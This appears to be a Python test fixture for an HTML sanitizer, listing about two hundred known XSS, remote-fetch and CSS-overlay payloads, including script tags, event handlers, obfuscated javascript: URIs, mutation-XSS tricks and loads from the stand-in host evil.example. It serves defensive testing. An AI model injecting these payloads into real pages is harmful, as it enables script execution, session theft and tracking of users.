"""Markup that tries to run, to fetch, or to reach out of its frame; written from known techniques."""

RUN = r'''
<script>evil()</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/x>evil()</script>
<scr<script>ipt>evil()</script>
<script
>evil()</script >
<script>evil()
<<script>evil();//<</script>
<script type="text/plain">evil()</script>
<svg><script>evil()</script></svg>
<svg onload=evil()>
<svg/onload=evil()>
<svg><animate onbegin=evil() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:evil()>
<svg><a xlink:href="javascript:evil()"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<svg><foreignObject><iframe src=javascript:evil()></iframe></foreignObject></svg>
<svg><style><img src=x onerror=evil()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=evil()>">
<svg><desc><![CDATA[</desc><script>evil()</script>]]></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=evil()>
<math href="javascript:evil()">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">
<math><maction actiontype=statusline xlink:href="javascript:evil()">x</maction></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=evil() src>">
<img src=x onerror=evil()>
<img src=x onerror="evil()"
<img/src/onerror=evil()>
<img src="x"onerror="evil()">
<img src=x:x onerror=&#101;vil()>
<IMG """><SCRIPT>evil()</SCRIPT>">
<img src=`x` onerror=evil()>
<img src='x' OnErRoR=evil()>
<img src=x onerror	=evil()>
<img src=x on&#101;rror=evil()>
<img src=javascript:evil()>
<img lowsrc=javascript:evil()>
<img dynsrc=javascript:evil()>
<img srcset="javascript:evil() 1x">
<body onload=evil()>
<body background="javascript:evil()">
<html onmouseover=evil()>
<div onclick=evil()>x</div>
<div onpointerrawupdate=evil()>x</div>
<div onanimationstart=evil() style="animation:x 1s">x</div>
<details open ontoggle=evil()>x</details>
<marquee onstart=evil()>x</marquee>
<video><source onerror=evil()></video>
<audio src=x onerror=evil()></audio>
<video poster=javascript:evil()></video>
<input autofocus onfocus=evil()>
<select autofocus onfocus=evil()><option>x</select>
<textarea autofocus onfocus=evil()></textarea>
<keygen autofocus onfocus=evil()>
<button formaction=javascript:evil()>x</button>
<form action=javascript:evil()><input type=submit></form>
<isindex action=javascript:evil() type=image>
<a href="javascript:evil()">x</a>
<a href="JaVaScRiPt:evil()">x</a>
<a href=" javascript:evil()">x</a>
<a href="&#1;javascript:evil()">x</a>
<a href="java&#9;script:evil()">x</a>
<a href="java&#10;script:evil()">x</a>
<a href="java&Tab;script:evil()">x</a>
<a href="java&NewLine;script&colon;evil()">x</a>
<a href="javascript&#58;evil()">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;evil()">x</a>
<a href="javascript://example.com/%0aevil()">x</a>
<a href="vbscript:evil()">x</a>
<a href="livescript:evil()">x</a>
<a href="data:text/html,<script>evil()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=">x</a>
<a href="data:image/svg+xml,<svg onload=evil()>">x</a>
<a href="view-source:javascript:evil()">x</a>
<a href="feed:javascript:evil()">x</a>
<a href="blob:https://x/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="ms-msdt:/id evil">x</a>
<a href="search-ms:query=x">x</a>
<a href="intent://evil#Intent;end">x</a>
<a href="cid:x">x</a>
<a href="/api/v1/deals/7">x</a>
<a href="?delete=1">x</a>
<a href="\\evil.example\share">x</a>
<a href="#" ping="https://evil.example/p">x</a>
<a href=https://a.example target=_top rel=opener>x</a>
<a href=https://a.example download=x.exe>x</a>
<area href=javascript:evil()>
<map name=x><area shape=default href=javascript:evil()></map><img usemap=#x>
<iframe src=javascript:evil()></iframe>
<iframe srcdoc="<script>evil()</script>"></iframe>
<iframe src="data:text/html,<script>evil()</script>">
<frameset><frame src=javascript:evil()></frameset>
<object data=javascript:evil()></object>
<object classid=clsid:x><param name=url value=javascript:evil()></object>
<embed src=javascript:evil()>
<embed code=https://evil.example/x.swf allowscriptaccess=always>
<applet code=evil></applet>
<portal src=https://evil.example></portal>
<base href="javascript:evil()//">
<base href="https://evil.example/"><a href="x">x</a>
<meta http-equiv=refresh content="0;url=javascript:evil()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=import href="data:text/html,<script>evil()</script>">
<noscript><p title="</noscript><img src=x onerror=evil()>">
<title><img title="</title><img src=x onerror=evil()>"></title>
<textarea><img title="</textarea><img src=x onerror=evil()>"></textarea>
<xmp><p title="</xmp><img src=x onerror=evil()>"></xmp>
<plaintext><img src=x onerror=evil()>
<noembed><img title="</noembed><img src=x onerror=evil()>"></noembed>
<noframes><img title="</noframes><img src=x onerror=evil()>"></noframes>
<template><img src=x onerror=evil()></template>
<template shadowrootmode=open><script>evil()</script></template>
<!--><img src=x onerror=evil()>-->
<!--[if gte IE 4]><script>evil()</script><![endif]-->
<!-- --!><img src=x onerror=evil()> -->
<![CDATA[<img src=x onerror=evil()>]]>
<?xml-stylesheet href="javascript:evil()"?>
<!DOCTYPE x [<!ENTITY y "<script>evil()</script>">]>&y;
<p title="</p><script>evil()</script>">x</p>
<p title='"><img src=x onerror=evil()>'>x</p>
<b title="`<img src=x onerror=evil()>`">x</b>
<font color='"><script>evil()</script>'>x</font>
<table align="left' onclick='evil()">x</table>
<ol type='1" onclick="evil()'><li>x</ol>
<td width="1&quot; onclick=&quot;evil()">x</td>
<table><caption><img src=x onerror=evil()></caption></table>
<table><form><script>evil()</script></table>
<custom-element onclick=evil() is=x>x</custom-element>
<dialog open><script>evil()</script></dialog>
<div contenteditable onbeforeinput=evil()>x</div>
<div popover id=x onbeforetoggle=evil()>x</div>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">evil()</x:script>
%3Cscript%3Eevil()%3C/script%3E<script>evil()</script>
+ADw-script+AD4-evil()+ADw-/script+AD4-
&lt;script&gt;evil()&lt;/script&gt;
'''.strip().split("\n<")  # fmt: skip

FETCH = r'''
<img src="https://evil.example/p.gif">
<img src="//evil.example/p.gif">
<img src="/\evil.example/p.gif">
<img src="\\evil.example\p.gif">
<img src="ht&#9;tps://evil.example/p.gif">
<img src="HTTPS://evil.example/p.gif">
<img src=" https://evil.example/p.gif">
<img src="http:evil.example/p.gif">
<img src="ftp://evil.example/p.gif">
<img src="p.gif">
<img src="/api/v1/me">
<img src="cid:unknown">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<img src="data:text/html,x">
<img src="data:image/png,<svg>">
<img srcset="https://evil.example/p.gif 1x">
<img srcset="data:image/png;base64,AA== 1x, https://evil.example/p.gif 2x">
<img src=x longdesc=https://evil.example/>
<image src="https://evil.example/p.gif">
<picture><source srcset="https://evil.example/p.gif"><img></picture>
<table background="https://evil.example/p.gif"><tr><td background="https://evil.example/p.gif">x
<body background="https://evil.example/p.gif">
<video src="https://evil.example/v" poster="https://evil.example/p.gif"></video>
<audio src="https://evil.example/a"></audio>
<track src="https://evil.example/t">
<input type=image src="https://evil.example/p.gif">
<link rel=stylesheet href="https://evil.example/s.css">
<link rel=preload as=image href="https://evil.example/p.gif">
<link rel=dns-prefetch href="//evil.example">
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/"></object>
<embed src="https://evil.example/">
<svg><image href="https://evil.example/p.gif"/></svg>
<svg><feImage xlink:href="https://evil.example/p.gif"/></svg>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<blockquote cite="https://evil.example/">x</blockquote>
<html manifest="https://evil.example/">
<style>@import "https://evil.example/s.css";</style>
<style>*{background:url(https://evil.example/p.gif)}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>
<div style="background:url(https://evil.example/p.gif)">x</div>
<div style="background:url('https://evil.example/p.gif')">x</div>
<div style="background-image:\75rl(https://evil.example/p.gif)">x</div>
<div style="background:u/**/rl(https://evil.example/p.gif)">x</div>
<div style="background:URL(https://evil.example/p.gif)">x</div>
<div style="background:image-set('https://evil.example/p.gif' 1x)">x</div>
<div style="color:red;list-style:url(https://evil.example/p.gif)">x</div>
<div style="cursor:url(https://evil.example/p.gif),auto">x</div>
<div style="content:url(https://evil.example/p.gif)">x</div>
<div style="border-image:url(https://evil.example/p.gif)">x</div>
<div style="font-family:x,url(https://evil.example/f)">x</div>
<div style="color:var(--x,url(https://evil.example/))">x</div>
<div style="--x:url(https://evil.example/)">x</div>
<div style="filter:url(https://evil.example/f.svg#x)">x</div>
<div style="mask:url(https://evil.example/m)">x</div>
<div style="src:local(x)">x</div>
'''.strip().split("\n")  # fmt: skip

STYLE = r"""
<style>body{display:none}</style>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<div style="position:absolute;z-index:99999">x</div>
<div style="pos\69tion:fixed">x</div>
<div style="margin-top:-500px">x</div>
<div style="margin:-1px -500px">x</div>
<div style="transform:translate(-500px)">x</div>
<div style="width:expression(evil())">x</div>
<div style="width:exp/**/ression(evil())">x</div>
<div style="behavior:url(evil.htc)">x</div>
<div style="-moz-binding:url(evil.xml#x)">x</div>
<div style="color:red}body{display:none">x</div>
<div style="@import 'x'">x</div>
<div style="font-family:'x;position:fixed;y:'">x</div>
<div style='font-family:"x;position:fixed;y:'>x</div>
<div style="font-size:99999999px">x</div>
<div style="width:calc(100vw * 99)">x</div>
<div style="opacity:0">x</div>
<div style="pointer-events:none">x</div>
<div style="animation:x 1s infinite">x</div>
<div style="color:red;;;:::;position:fixed">x</div>
<div style="COLOR:red;POSITION:FIXED">x</div>
<div style="color:&#x72;ed;position&colon;fixed">x</div>
<div style="all:unset">x</div>
<div style="inset:0">x</div>
<div class="mantine-Modal-root" id="root">x</div>
""".strip().split("\n")

RUN = [RUN[0], *("<" + each for each in RUN[1:])]
ALL = [*RUN, *FETCH, *STYLE]
